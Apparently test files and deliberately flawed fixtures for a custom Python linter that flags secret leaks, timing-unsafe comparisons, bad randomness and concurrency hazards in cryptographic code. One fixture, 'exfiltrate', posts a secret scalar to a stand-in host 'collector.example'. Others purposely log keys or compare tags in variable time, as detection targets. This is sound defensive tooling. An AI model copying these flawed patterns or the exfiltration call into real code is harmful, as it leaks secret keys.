    baseline.write_text("RP102 crypto/gone.py abcdefabcdef 0\n")
    assert main([target, "--baseline", str(baseline)]) == 1
    assert "stale baseline entry" in capsys.readouterr().out


def test_sarif_format_is_valid_2_1_0(tmp_path, capsys) -> None:
    target = _module(tmp_path, "bad.py", DIRTY)
    status = main([target, "--no-baseline", "--format", "sarif"])
    assert status == 1
    payload = json.loads(capsys.readouterr().out)
    assert payload["version"] == "2.1.0"
    (sarif_run,) = payload["runs"]
    assert sarif_run["tool"]["driver"]["name"] == "repro.lint"
    rule_ids = {rule["id"] for rule in sarif_run["tool"]["driver"]["rules"]}
    assert {"RP102", "RP201", "RP204"} <= rule_ids
    (result,) = sarif_run["results"]
    assert result["ruleId"] == "RP102"
    assert result["partialFingerprints"]["reproLint/v1"]


def test_output_flag_writes_file_and_keeps_text_on_stdout(tmp_path, capsys) -> None:
    target = _module(tmp_path, "bad.py", DIRTY)
    out_file = tmp_path / "report.sarif"
    status = main(
        [target, "--no-baseline", "--format", "sarif", "--output", str(out_file)]
    )
    assert status == 1
    payload = json.loads(out_file.read_text())
    assert payload["version"] == "2.1.0"
    assert "FAILED" in capsys.readouterr().out  # human trace stays on stdout


def test_unused_waiver_is_a_note_without_check_baseline(tmp_path, capsys) -> None:
    source = CLEAN + "    # lint: allow[RP102] nothing to suppress here\n"
    target = _module(tmp_path, "ok.py", source)
    assert main([target, "--no-baseline"]) == 0
    assert "unused waiver" in capsys.readouterr().out


def test_unused_waiver_fails_under_check_baseline(tmp_path, capsys) -> None:
    source = CLEAN + "    # lint: allow[RP102] nothing to suppress here\n"
    target = _module(tmp_path, "ok.py", source)
    assert main([target, "--no-baseline", "--check-baseline"]) == 1
    out = capsys.readouterr().out
    assert "UNUSED WAIVER" in out
    assert "FAILED" in out


def test_self_time_budget_violation_fails(tmp_path, capsys) -> None:
    target = _module(tmp_path, "ok.py", CLEAN)
    assert main([target, "--no-baseline", "--self-time-budget", "0"]) == 1
    assert "self-time budget exceeded" in capsys.readouterr().out


def test_flow_finding_reported_end_to_end(tmp_path, capsys) -> None:
    source = (
        "def reveal(value):\n"
        "    raise ValueError(f'got {value}')\n"
        "\n"
        "def use(rng):\n"
        "    k = random_scalar(rng)\n"
        "    reveal(k)\n"
    )
    target = _module(tmp_path, "leaky.py", source)
    assert main([target, "--no-baseline"]) == 1
    out = capsys.readouterr().out
    assert "RP201" in out
    assert "reveal" in out


def test_list_rules_includes_flow_family(capsys) -> None:
    assert main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rule_id in ("RP201", "RP202", "RP203", "RP204"):
        assert rule_id in out
