"""The gate: the shipped tree must lint clean against its baseline.

This is the test that makes the linter *binding* — a new unsuppressed
finding anywhere under ``src/`` fails the suite, and so does a stale
baseline entry (a grandfathered finding that was fixed but whose entry
was left behind).
"""

from __future__ import annotations

from pathlib import Path

from repro.lint import load_baseline
from repro.lint.engine import run

ROOT = Path(__file__).resolve().parents[2]


def test_tree_is_clean() -> None:
    report = run([ROOT / "src"], load_baseline(ROOT / "lint-baseline.txt"))
    assert report.files_checked > 0
    rendered = "\n".join(finding.render() for finding in report.new)
    assert report.new == [], f"new lint findings:\n{rendered}"
    assert report.stale_baseline == [], (
        "stale baseline entries (finding fixed — regenerate the baseline "
        f"with --write-baseline): {report.stale_baseline}"
    )
