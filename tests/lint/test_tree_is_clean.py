"""The gate: the shipped tree must lint clean against its baseline.

This is the test that makes the linter *binding* — a new unsuppressed
finding anywhere under ``src/``, ``examples/`` or ``benchmarks/``
fails the suite, and so does a stale baseline entry (a grandfathered
finding that was fixed but whose entry was left behind) or an unused
waiver comment (a suppression that outlived its finding).
"""

from __future__ import annotations

from pathlib import Path

from repro.lint import load_baseline
from repro.lint.engine import run

ROOT = Path(__file__).resolve().parents[2]
GATED_TREES = ("src", "examples", "benchmarks")

# The analyzer runs whole-program over the full tree inside the test
# suite, so its own runtime is part of the tier-1 budget.  Generous
# multiple of the observed ~2-3s to stay robust on slow CI machines.
SELF_TIME_BUDGET_SECONDS = 60.0


def _report():
    return run(
        [ROOT / tree for tree in GATED_TREES],
        load_baseline(ROOT / "lint-baseline.txt"),
    )


def test_tree_is_clean() -> None:
    report = _report()
    assert report.files_checked > 0
    rendered = "\n".join(finding.render() for finding in report.new)
    assert report.new == [], f"new lint findings:\n{rendered}"
    assert report.stale_baseline == [], (
        "stale baseline entries (finding fixed — regenerate the baseline "
        f"with --write-baseline): {report.stale_baseline}"
    )
    assert report.unused_waivers == [], (
        f"waivers that suppress nothing: {report.unused_waivers}"
    )


def test_analyzer_stays_within_time_budget() -> None:
    report = _report()
    assert report.elapsed < SELF_TIME_BUDGET_SECONDS, (
        f"whole-tree analysis took {report.elapsed:.1f}s — the analyzer "
        "has regressed; profile before raising the budget"
    )
