"""Tests for the typestate protocol analysis (RP401–RP405).

Single-file behavior is covered by the ``proto_*`` fixtures through the
shared harness in ``test_rules.py``; this module exercises what that
harness cannot: the interprocedural summaries crossing module
boundaries (a sink in one module firing at the decode site in another,
and a guard helper verifying its argument at the call site),
byte-for-byte determinism of the RP4xx report, and the CLI surface
that rides along (``--select RP4``, ``--jobs``, SARIF descriptors).
"""

from __future__ import annotations

from pathlib import Path

from repro.lint import lint_source
from repro.lint.cli import main
from repro.lint.engine import analyze_modules, parse_module, run

FIXTURES = Path(__file__).parent / "fixtures"


# -- interprocedural summaries across module boundaries -----------------------

_STORE_SRC = (
    "def remember(archive, update):\n"
    "    archive[update.time_label] = update\n"
)

_PUMP_SRC = (
    "from svc.store import remember\n"
    "\n"
    "\n"
    "def pump(group, archive, blob):\n"
    "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
    "    remember(archive, update)\n"
)


def test_param_sink_fires_at_the_decoding_call_site():
    """The cache insert lives in ``store.py``, but the unverified bytes
    enter in ``pump.py`` — the finding lands where the FETCHED value is
    supplied, naming the helper that sinks it."""
    modules = [
        parse_module(_STORE_SRC, "store.py", "svc/store.py"),
        parse_module(_PUMP_SRC, "pump.py", "svc/pump.py"),
    ]
    findings, _, _ = analyze_modules(modules)
    (finding,) = findings
    assert finding.rule == "RP401"
    assert finding.path == "pump.py"
    assert finding.line == 6
    assert "remember" in finding.message


def test_guard_helper_verifies_at_the_call_site():
    """A helper that verifies-or-raises its parameter on every normal
    exit transfers VERIFIED back to the caller's value — the same sink
    is then quiet."""
    guard = (
        "def checked(group, server_public, update):\n"
        "    if not update.verify(group, server_public):\n"
        "        raise ValueError('forged update')\n"
        "    return update\n"
    )
    caller = (
        "from svc.gate import checked\n"
        "from svc.store import remember\n"
        "\n"
        "\n"
        "def pump(group, server_public, archive, blob):\n"
        "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
        "    checked(group, server_public, update)\n"
        "    remember(archive, update)\n"
    )
    modules = [
        parse_module(_STORE_SRC, "store.py", "svc/store.py"),
        parse_module(guard, "gate.py", "svc/gate.py"),
        parse_module(caller, "pump.py", "svc/pump.py"),
    ]
    findings, _, _ = analyze_modules(modules)
    assert findings == []


def test_verdict_returning_helper_is_consumable():
    """A helper that *returns* the verify verdict lets the caller
    branch on it: ``if not is_genuine(...): raise`` verifies the
    argument on the fall-through path."""
    predicate = (
        "def is_genuine(group, server_public, update):\n"
        "    return update.verify(group, server_public)\n"
    )
    caller = (
        "from svc.gate import is_genuine\n"
        "from svc.store import remember\n"
        "\n"
        "\n"
        "def pump(group, server_public, archive, blob):\n"
        "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
        "    if not is_genuine(group, server_public, update):\n"
        "        raise ValueError('forged update')\n"
        "    remember(archive, update)\n"
    )
    modules = [
        parse_module(_STORE_SRC, "store.py", "svc/store.py"),
        parse_module(predicate, "gate.py", "svc/gate.py"),
        parse_module(caller, "pump.py", "svc/pump.py"),
    ]
    findings, _, _ = analyze_modules(modules)
    assert findings == []


def test_one_unverified_branch_taints_the_merge():
    """Verified on one branch only: the pessimistic join keeps the
    value FETCHED past the merge, so the sink still fires."""
    src = (
        "def pump(group, server_public, archive, blob, paranoid):\n"
        "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
        "    if paranoid:\n"
        "        update.ensure_valid(group)\n"
        "    archive[update.time_label] = update\n"
    )
    findings, _ = lint_source(src, "pump.py", package_path="svc/pump.py")
    assert [f.rule for f in findings] == ["RP401"]
    assert findings[0].line == 5


def test_waiver_suppresses_proto_finding():
    src = (
        "def rebroadcast(group, blob):\n"
        "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
        "    # lint: allow[RP401] relay fixture: bytes forwarded verbatim\n"
        "    return update.to_bytes(group)\n"
    )
    findings, waived = lint_source(src, "relay.py", package_path="svc/relay.py")
    assert findings == []
    assert waived == 1


# -- determinism (the acceptance criterion for the fixture package) -----------


def _render_rp4(report) -> bytes:
    return "\n".join(
        f"{f.path}|{f.line}|{f.col}|{f.rule}|{f.fingerprint}|{f.message}"
        for f in report.new
        if f.rule.startswith("RP4")
    ).encode()


def test_rp4_report_is_byte_identical_across_runs():
    first = run([str(FIXTURES)])
    second = run([str(FIXTURES)])
    rendered = _render_rp4(first)
    assert rendered  # the proto_* fixtures are intentionally dirty
    assert rendered == _render_rp4(second)


def test_module_order_does_not_change_proto_findings():
    modules = [
        parse_module(_STORE_SRC, "store.py", "svc/store.py"),
        parse_module(_PUMP_SRC, "pump.py", "svc/pump.py"),
    ]
    forward, _, _ = analyze_modules(modules)
    backward, _, _ = analyze_modules(list(reversed(modules)))
    key = lambda f: (f.path, f.line, f.col, f.rule, f.fingerprint, f.message)
    assert [key(f) for f in forward] == [key(f) for f in backward]


# -- CLI: --select RP4, --jobs, SARIF -----------------------------------------

DIRTY_PROTO = (
    "def rebroadcast(group, blob):\n"
    "    update = TimeBoundKeyUpdate.from_bytes(group, blob)\n"
    "    return update.to_bytes(group)\n"
)


def _module(tmp_path: Path, subdir: str, name: str, source: str) -> str:
    path = tmp_path / "repro" / subdir / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(source)
    return str(path)


def test_select_rp4_reports_only_the_proto_family(tmp_path, capsys) -> None:
    target = _module(tmp_path, "service", "relay.py", DIRTY_PROTO)
    assert main([target, "--no-baseline", "--select", "RP4"]) == 1
    out = capsys.readouterr().out
    assert "RP401" in out
    assert "RP1" not in out
    assert "RP3" not in out


def test_jobs_output_matches_sequential(capsys) -> None:
    """``--jobs`` must be invisible in the report: same findings, same
    order, same bytes (the wall-clock footer is the one tolerated
    difference)."""
    import re

    scrub = lambda text: re.sub(r"\[\d+\.\d+s\]", "[T]", text)
    assert main([str(FIXTURES), "--no-baseline"]) == 1
    sequential = scrub(capsys.readouterr().out)
    assert main([str(FIXTURES), "--no-baseline", "--jobs", "4"]) == 1
    parallel = scrub(capsys.readouterr().out)
    assert parallel == sequential
    assert "RP401" in sequential


def test_list_rules_includes_proto_family(capsys) -> None:
    assert main(["--list-rules"]) == 0
    out = capsys.readouterr().out
    for rule_id in ("RP401", "RP402", "RP403", "RP404", "RP405"):
        assert rule_id in out


def test_sarif_includes_proto_descriptors_and_results(tmp_path, capsys) -> None:
    import json

    target = _module(tmp_path, "service", "relay.py", DIRTY_PROTO)
    assert main([target, "--no-baseline", "--format", "sarif"]) == 1
    payload = json.loads(capsys.readouterr().out)
    (sarif_run,) = payload["runs"]
    rule_ids = {rule["id"] for rule in sarif_run["tool"]["driver"]["rules"]}
    assert {"RP401", "RP402", "RP403", "RP404", "RP405"} <= rule_ids
    assert {result["ruleId"] for result in sarif_run["results"]} == {"RP401"}
