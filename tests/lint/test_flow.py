"""Tests for the interprocedural flow analysis (RP201–RP204).

Single-file flow behavior is covered by the ``flow_*`` fixtures through
the shared harness in ``test_rules.py``; this module exercises what
that harness cannot: whole-program analysis across a multi-module
fixture package, the taint lattice itself, rule scoping, and the
interaction of flow findings with waivers and the structural
dataclass-repr check.
"""

from __future__ import annotations

import re
from pathlib import Path

from repro.lint import lint_source
from repro.lint.engine import analyze_modules, parse_module
from repro.lint.flow.lattice import (
    CLEAN,
    DERIVED,
    SECRET,
    TAINT_CLEAN,
    Taint,
    join_all,
    param,
)

FLOWPKG = Path(__file__).parent / "fixtures" / "flowpkg"
_HEADER = re.compile(r"#\s*lint-fixture:\s*(\S+)")
_EXPECT = re.compile(r"#\s*EXPECT\[(RP\d+)\]")


# -- the multi-module fixture package ---------------------------------------


def _load_flowpkg():
    modules = []
    expected = set()
    for path in sorted(FLOWPKG.glob("*.py")):
        source = path.read_text(encoding="utf-8")
        lines = source.splitlines()
        header = _HEADER.match(lines[0])
        assert header, f"{path.name} must start with '# lint-fixture: <path>'"
        modules.append(parse_module(source, path.as_posix(), header.group(1)))
        expected.update(
            (path.name, number, match.group(1))
            for number, line in enumerate(lines, start=1)
            for match in _EXPECT.finditer(line)
        )
    return modules, expected


def test_flowpkg_leak_crosses_module_boundaries():
    """A secret born in provider.py, relayed via middle.py, leaks in
    app.py — and only app.py's supplying call is reported."""
    modules, expected = _load_flowpkg()
    findings, _, _ = analyze_modules(modules)
    actual = {(Path(f.path).name, f.line, f.rule) for f in findings}
    assert actual == expected, (
        f"unexpected: {sorted(actual - expected)}; "
        f"missing: {sorted(expected - actual)}"
    )


def test_flowpkg_finding_mentions_the_chain():
    modules, _ = _load_flowpkg()
    findings, _, _ = analyze_modules(modules)
    (finding,) = findings
    assert finding.rule == "RP201"
    assert "audit" in finding.message
    assert "note" in finding.message  # the original sink, two hops away


def test_flowpkg_modules_alone_are_quiet():
    """Each module in isolation has no concrete secret — the leak only
    exists as a whole-program property."""
    for path in sorted(FLOWPKG.glob("*.py")):
        if path.name == "provider.py":
            continue  # provider has the source but no sink
        source = path.read_text(encoding="utf-8")
        header = _HEADER.match(source.splitlines()[0])
        findings, _ = lint_source(
            source, path.as_posix(), package_path=header.group(1)
        )
        assert not findings, (path.name, findings)


# -- the lattice ------------------------------------------------------------


def test_join_is_commutative_and_monotone():
    a = Taint(DERIVED, frozenset({(0, True)}))
    b = Taint(SECRET, frozenset({(1, False)}))
    assert a.join(b) == b.join(a)
    joined = a.join(b)
    assert joined.level == SECRET
    assert joined.deps == {(0, True), (1, False)}
    assert joined.join(joined) == joined  # idempotent


def test_clean_is_identity():
    a = Taint(SECRET, frozenset({(2, True)}))
    assert a.join(TAINT_CLEAN) == a
    assert TAINT_CLEAN.join(a) == a
    assert join_all([]) == TAINT_CLEAN


def test_demotion_strips_directness_but_keeps_level():
    a = Taint(SECRET, frozenset({(0, True), (1, False)}))
    demoted = a.demoted()
    assert demoted.level == SECRET
    assert demoted.deps == {(0, False), (1, False)}
    assert demoted.direct_deps() == frozenset()
    assert param(3, CLEAN).direct_deps() == {3}


# -- scoping ----------------------------------------------------------------

_BRANCH_SRC = (
    "def lookup(rng, table):\n"
    "    k = random_scalar(rng)\n"
    "    if k % 2:\n"
    "        return table[0]\n"
    "    return table[1]\n"
)


def test_rp202_scoped_to_crypto_dirs():
    in_core, _ = lint_source(_BRANCH_SRC, "x.py", package_path="core/x.py")
    assert {f.rule for f in in_core} == {"RP202"}
    in_sim, _ = lint_source(_BRANCH_SRC, "x.py", package_path="sim/x.py")
    assert not in_sim


def test_rp201_fires_everywhere():
    src = "def announce(rng):\n    print(random_scalar(rng))\n"
    outside, _ = lint_source(src, "bench.py", package_path="")
    assert {f.rule for f in outside} == {"RP201"}


# -- thresholds and sanitizers ----------------------------------------------


def test_verification_pairing_branch_is_below_rp202_threshold():
    src = (
        "def verify(g, sig, m, pub):\n"
        "    if pair(g, sig) != pair(m, pub):\n"
        "        raise ValueError('bad signature')\n"
        "    return True\n"
    )
    findings, _ = lint_source(src, "v.py", package_path="core/v.py")
    assert not findings


def test_pairing_output_must_not_be_rendered():
    src = "def debug(g, p):\n    print(pair(g, p))\n"
    findings, _ = lint_source(src, "d.py", package_path="core/d.py")
    assert [f.rule for f in findings] == ["RP201"]
    assert "secret-derived" in findings[0].message


def test_kdf_into_sanitizer_idiom_is_sanctioned():
    src = (
        "def session(rng):\n"
        "    k = random_scalar(rng)\n"
        "    key = derive_key(k.to_bytes(32, 'big'), 32, 'x:y')\n"
        "    print(key)\n"
        "    return key\n"
    )
    findings, _ = lint_source(src, "s.py", package_path="crypto/s.py")
    assert not findings


def test_rp204_needs_a_concrete_secret():
    base = "import requests\n\ndef send(g, p, rng):\n"
    derived = base + "    requests.post('u', data=pair(g, p))\n"
    findings, _ = lint_source(derived, "t.py", package_path="core/t.py")
    assert not findings  # DERIVED is below the RP204 threshold
    secret = base + "    requests.post('u', data=random_scalar(rng))\n"
    findings, _ = lint_source(secret, "t.py", package_path="core/t.py")
    assert [f.rule for f in findings] == ["RP204"]


# -- waivers on flow findings -----------------------------------------------


def test_call_site_waiver_suppresses_interprocedural_finding():
    src = (
        "def gate(flag):\n"
        "    if flag:\n"
        "        raise ValueError('rejected')\n"
        "\n"
        "def use(rng):\n"
        "    k = random_scalar(rng)\n"
        "    # lint: allow[RP202] rejection branch reveals one bit only\n"
        "    gate(k)\n"
    )
    findings, waived = lint_source(src, "w.py", package_path="core/w.py")
    assert not findings
    assert waived == 1


# -- the structural dataclass-repr check ------------------------------------

_KEYPAIR = (
    "from dataclasses import dataclass, field\n"
    "from repro.crypto.redact import redacted_repr\n"
    "\n"
    "{decorators}\n"
    "class KeyPair:\n"
    "    private: int{field_suffix}\n"
    "    public: object\n"
)


def _keypair_findings(decorators: str, field_suffix: str = ""):
    src = _KEYPAIR.format(decorators=decorators, field_suffix=field_suffix)
    findings, _ = lint_source(src, "k.py", package_path="core/k.py")
    return findings


def test_plain_dataclass_with_secret_field_is_flagged():
    findings = _keypair_findings("@dataclass(frozen=True)")
    assert [f.rule for f in findings] == ["RP201"]
    assert "__repr__" in findings[0].message


def test_redacted_repr_decorator_satisfies_the_check():
    findings = _keypair_findings(
        '@redacted_repr("public")\n@dataclass(frozen=True)'
    )
    assert not findings


def test_field_level_repr_suppression_satisfies_the_check():
    findings = _keypair_findings(
        "@dataclass(frozen=True)", field_suffix=" = field(repr=False)"
    )
    assert not findings
