# lint-fixture: core/flowpkg/middle.py
"""Module 2: the relay.  Neither function is leaky for public values —
the sink entry only matters when a caller supplies a secret."""


def note(value):
    print(f"value={value}")


def audit(value):
    note(value)
