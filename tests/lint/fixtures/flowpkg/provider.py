# lint-fixture: core/flowpkg/provider.py
"""Module 1: the source.  Returns a freshly sampled secret scalar."""


def fresh_scalar(rng):
    return random_scalar(rng)
