# lint-fixture: core/flowpkg/app.py
"""Module 3: the caller.  The secret born in ``provider`` crosses two
module boundaries and three calls before reaching ``print`` — only the
whole-program analysis connects the dots, and the finding lands here,
on the call that supplies the secret."""

from flowpkg.middle import audit
from flowpkg.provider import fresh_scalar


def main(rng):
    k = fresh_scalar(rng)
    audit(k)  # EXPECT[RP201]
    audit("public banner")
