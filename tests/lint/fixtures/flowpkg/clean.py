# lint-fixture: core/flowpkg/clean.py
"""Module 4: the sanitizer path.  Same source, same relay — but the
scalar passes the KDF first, so nothing fires."""

from flowpkg.middle import audit
from flowpkg.provider import fresh_scalar


def main(rng):
    k = fresh_scalar(rng)
    token = derive_key(k.to_bytes(), 32, "fixture:flowpkg")
    audit(token)
