# lint-fixture: core/leak_bad.py
"""Positive fixture: secret-named values reaching leak-prone sinks."""
import logging

logger = logging.getLogger(__name__)


def debug_dump(sk: int, seed: bytes, private_share: bytes) -> str:
    message = f"signing key is {sk}"  # EXPECT[RP103]
    logger.info("derived from seed %r", seed)  # EXPECT[RP103]
    print(seed)  # EXPECT[RP103]
    return message


def fail(private_share: bytes) -> None:
    raise ValueError(private_share)  # EXPECT[RP103]
