# lint-fixture: core/rng_bad.py
"""Positive fixture: every flavor of ambient randomness RP101 catches."""
import random
from random import randrange

from repro.crypto.rng import seeded_rng


def keygen():
    rng = random.Random()  # EXPECT[RP101]
    scalar = random.randrange(1, 100)  # EXPECT[RP101]
    other = randrange(1, 100)  # EXPECT[RP101]
    det = seeded_rng(7)  # EXPECT[RP101]
    return rng, scalar, other, det
