# lint-fixture: core/rng_ok.py
"""Negative fixture: injected rng and system_rng() are the sanctioned paths."""
import random

from repro.crypto.rng import system_rng


def keygen(rng: random.Random) -> int:
    return rng.randrange(1, 100)


def default_rng() -> random.Random:
    return system_rng()
