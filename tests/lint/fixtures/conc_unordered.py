# lint-fixture: svc/conc_unordered.py
"""RP305 positives and negative: worker results merged through set
iteration order or a completion-order stream fire; keeping the pool's
submission order is clean."""

from multiprocessing import Pool


def collect_unordered(jobs):
    with Pool(4) as pool:
        results = pool.map(_work, jobs)
        unique = set(results)  # EXPECT[RP305]
        for item in pool.imap_unordered(_work, jobs):  # EXPECT[RP305]
            unique.add(item)
    return unique


def collect_wrapped(jobs):
    with Pool(4) as pool:
        return set(pool.map(_work, jobs))  # EXPECT[RP305]


def collect_ordered(jobs):
    with Pool(4) as pool:
        results = pool.map(_work, jobs)  # submission order: clean
    return list(results)


def _work(job):
    return job * 2
