# lint-fixture: core/hashdom_bad_core.py
"""Positive fixture: core/ must route hashing through repro.crypto.hashing."""
import hashlib


def commit(value: bytes) -> bytes:
    return hashlib.sha256(value).digest()  # EXPECT[RP105]
