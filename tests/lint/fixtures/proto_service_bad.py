# lint-fixture: service/proto_service_bad.py
"""RP404 positives: a raise outside the transient/permanent taxonomy
and a broad except that swallows errors without classifying them."""


def classify(code):
    if code == 0:
        return "ok"
    raise RuntimeError(f"unknown code {code}")  # EXPECT[RP404]


def sweep(sources):
    results = []
    for source in sources:
        try:
            results.append(source.poll())
        except Exception:  # EXPECT[RP404]
            continue
    return results
