# lint-fixture: svc/conc_lazy_init_ok.py
"""RP304 negative: the same dual-reachable lazy-init shape is
sanctioned once an ``os.register_at_fork`` hook resets the global in
forked children — the child's first touch rebuilds instead of
inheriting."""

import os

from repro.parallel import parallel_map, register_task

_ENGINES = {}

os.register_at_fork(after_in_child=_ENGINES.clear)


def _engine_for(name):
    engine = _ENGINES.get(name)
    if engine is None:
        engine = {"name": name}
        _ENGINES[name] = engine  # guarded: rebuilt per process
    return engine


@register_task("svc.render2")
def render_chunk(group, setup, chunk):
    engine = _engine_for("fast")
    return [bytes([len(engine["name"]) & 0xFF]) for _ in chunk]


def warm_and_render(group, payloads):
    _engine_for("fast")
    return parallel_map("svc.render2", group, b"", payloads, workers=2)
