# lint-fixture: pairing/pointval_ok.py
"""Negative fixture: validated decoders and trusted private helpers."""


def point_from_bytes(curve, data: bytes):
    x = int.from_bytes(data[:32], "big")
    y = int.from_bytes(data[32:], "big")
    point = curve.point(x, y)
    curve.ensure_in_subgroup(point)
    return point


def _twist_helper(curve, x: int, y: int):
    return unchecked_point(curve, x, y)


def unchecked_point(curve, x: int, y: int):
    return (curve, x, y)
