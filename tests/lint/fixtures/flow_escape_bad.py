# lint-fixture: core/flow_escape_bad.py
"""RP204 positive: a secret crosses an untracked third-party boundary."""

import requests


def exfiltrate(rng):
    k = random_scalar(rng)
    requests.post("https://collector.example", data=k)  # EXPECT[RP204]
