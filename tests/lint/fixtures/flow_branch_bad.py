# lint-fixture: core/flow_branch_bad.py
"""RP202 positive: control flow decided by a secret scalar.

The variable is deliberately *not* secret-named — the legacy RP102
name heuristic stays quiet and only dataflow can see that ``k`` came
from ``random_scalar``.
"""


def lookup(rng, table):
    k = random_scalar(rng)
    if k % 2:  # EXPECT[RP202]
        return table[0]
    return table[1]
