# lint-fixture: svc/conc_lazy_init.py
"""RP304 positive: a process-global cache first-touch initialized by a
helper reachable from both the registered worker task and the
parent-side dispatcher — whether a child inherits the parent's engine
depends on when the fork happened."""

from repro.parallel import parallel_map, register_task

_ENGINES = {}


def _engine_for(name):
    engine = _ENGINES.get(name)
    if engine is None:
        engine = {"name": name}
        _ENGINES[name] = engine  # EXPECT[RP304]
    return engine


@register_task("svc.render")
def render_chunk(group, setup, chunk):
    engine = _engine_for("fast")
    return [bytes([len(engine["name"]) & 0xFF]) for _ in chunk]


def warm_and_render(group, payloads):
    _engine_for("fast")  # parent touches the cache before forking
    return parallel_map("svc.render", group, b"", payloads, workers=2)
