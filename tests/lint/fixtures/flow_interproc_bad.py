# lint-fixture: core/flow_interproc_bad.py
"""RP201 positive: the sink is two calls away from the secret.

``render`` raises with the value interpolated; ``check`` forwards its
parameter; ``issue`` supplies a freshly sampled secret scalar.  The
finding lands on the call that supplies the secret, not on the sink —
the sink is fine for public values.
"""


def render(value):
    raise ValueError(f"bad value {value}")


def check(value):
    render(value)


def issue(rng):
    k = random_scalar(rng)
    check(k)  # EXPECT[RP201]
    check(len("public"))
