# lint-fixture: core/leak_ok.py
"""Negative fixture: public names and size-only diagnostics are fine."""
import logging

logger = logging.getLogger(__name__)


def describe(path: str, public_key: bytes, secret: bytes) -> str:
    logger.info("loaded %s", path)
    print(f"public key {public_key.hex()}")
    return f"secret of {len(secret)} bytes"
