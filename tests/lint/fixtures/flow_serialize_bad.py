# lint-fixture: core/flow_serialize_bad.py
"""RP203 positives: secret material serialized without a KDF."""


def to_bytes(rng):
    k = random_scalar(rng)
    return k  # EXPECT[RP203]


def gt_to_bytes(point):
    raw = pair(point, point)
    return raw  # EXPECT[RP203]


def persist(sink_file, rng):
    k = random_scalar(rng)
    sink_file.write(k)  # EXPECT[RP203]
