# lint-fixture: svc/conc_shard_bad.py
"""RP303 positives: secret values crossing the task-shard / pickle
boundary — a secret-derived local through `parallel_map` setup, and a
raw secret argument through an executor dispatch."""

from repro.parallel import parallel_map


def ship(group, private_scalar, payloads):
    setup = private_scalar.to_bytes(32, "big")
    return parallel_map(
        "svc.audit",
        group,
        setup,  # EXPECT[RP303]
        payloads,
        workers=4,
    )


def offload(executor, user_sk, items):
    return executor.submit(_rekey, user_sk, items)  # EXPECT[RP303]


def _rekey(user_sk, items):
    return [user_sk ^ item for item in items]
