# lint-fixture: svc/proto_async_ok.py
"""RP402/RP403 negatives: deadline-scoped awaits and owned tasks."""

import asyncio


async def fetch_bounded(transport, payload, timeout):
    return await asyncio.wait_for(transport.request(payload), timeout)


async def spawn_owned(worker):
    task = asyncio.get_running_loop().create_task(worker())
    try:
        return await task
    finally:
        task.cancel()
