# lint-fixture: svc/conc_shared_state.py
"""RP302 positives and negatives: worker-reachable writes to module-
and class-level mutable state fire; reads of whitelisted write-once
registries and purely parent-side access stay quiet."""

from repro.parallel import register_task

_RESULT_LOG = []
_TASKS = {"svc.audit": True}  # shares the whitelisted registry name


class Registry:
    table = {}


@register_task("svc.audit")
def audit_chunk(group, setup, chunk):
    for blob in chunk:
        _RESULT_LOG.append(blob)  # EXPECT[RP302]
    Registry.table["last"] = len(chunk)  # EXPECT[RP302]
    allowed = _TASKS.get("svc.audit")  # read-only whitelist: clean
    return [b"\x01" if allowed else b"\x00" for _ in chunk]


def tally():
    # Parent-only code may touch the log freely.
    return len(_RESULT_LOG)
