# lint-fixture: crypto/ct_bad.py
"""Positive fixture: variable-time comparisons of secret-named values."""


def verify(tag: bytes, expected: bytes) -> bool:
    if tag == expected:  # EXPECT[RP102]
        return True
    return False


def check(state, packet) -> bool:
    return state.mac_key != packet.body  # EXPECT[RP102]


def commitment_matches(recomputed: bytes, response) -> bool:
    return recomputed == response.kappa_commitment  # EXPECT[RP102]
