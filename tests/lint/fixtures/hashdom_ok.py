# lint-fixture: crypto/hashdom_ok.py
"""Negative fixture: length-framed hashing never concatenates raw parts."""
import hashlib


def digest(tag: bytes, *parts: bytes) -> bytes:
    hasher = hashlib.sha256()
    hasher.update(len(tag).to_bytes(2, "big"))
    hasher.update(tag)
    for part in parts:
        hasher.update(len(part).to_bytes(8, "big"))
        hasher.update(part)
    return hasher.digest()
