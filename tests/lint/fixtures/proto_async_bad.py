# lint-fixture: svc/proto_async_bad.py
"""RP402/RP403 positives: transport round-trips awaited with no
deadline, and spawned tasks dropped on the floor."""

import asyncio


async def fetch_one(transport, payload):
    return await transport.request(payload)  # EXPECT[RP402]


async def poll(sources, payload):
    for source in sources:
        await source.fetch(payload)  # EXPECT[RP402]


def fire_and_forget(loop, coro):
    loop.create_task(coro)  # EXPECT[RP403]


async def spawn_unread(worker):
    task = asyncio.ensure_future(worker())  # EXPECT[RP403]
    return None
