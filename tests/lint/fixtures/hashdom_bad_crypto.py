# lint-fixture: crypto/hashdom_bad_crypto.py
"""Positive fixture: ambiguous concatenation fed into a hash."""
import hashlib


def digest(label: bytes, part: bytes) -> bytes:
    return hashlib.sha256(label + part).digest()  # EXPECT[RP105]


def rolling(label: bytes, part: bytes) -> bytes:
    hasher = hashlib.sha256()
    hasher.update(label + part)  # EXPECT[RP105]
    return hasher.digest()
