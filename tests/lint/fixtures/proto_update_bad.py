# lint-fixture: svc/proto_update_bad.py
"""RP401/RP405 positives: a wire-decoded update reaches a decrypt, a
cache insert, re-serialization, and a summarized helper sink while
still FETCHED — and one verdict is computed then thrown away."""


def open_now(group, scheme, ciphertext, private, blob, server_public):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    return scheme.decrypt(ciphertext, private, update, server_public)  # EXPECT[RP401]


def cache_it(group, updates, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    updates[update.time_label] = update  # EXPECT[RP401]


def rebroadcast(group, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    return update.to_bytes(group)  # EXPECT[RP401]


def _store(archive, update):
    # The sink lives here, but `update` is a parameter (state PARAM):
    # the finding belongs to whichever call site supplies FETCHED bytes.
    archive[update.time_label] = update


def ingest(group, archive, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    _store(archive, update)  # EXPECT[RP401]


def audit(group, server_public, blob):
    update = TimeBoundKeyUpdate.from_bytes(group, blob)
    update.verify(group, server_public)  # EXPECT[RP405]
    return update
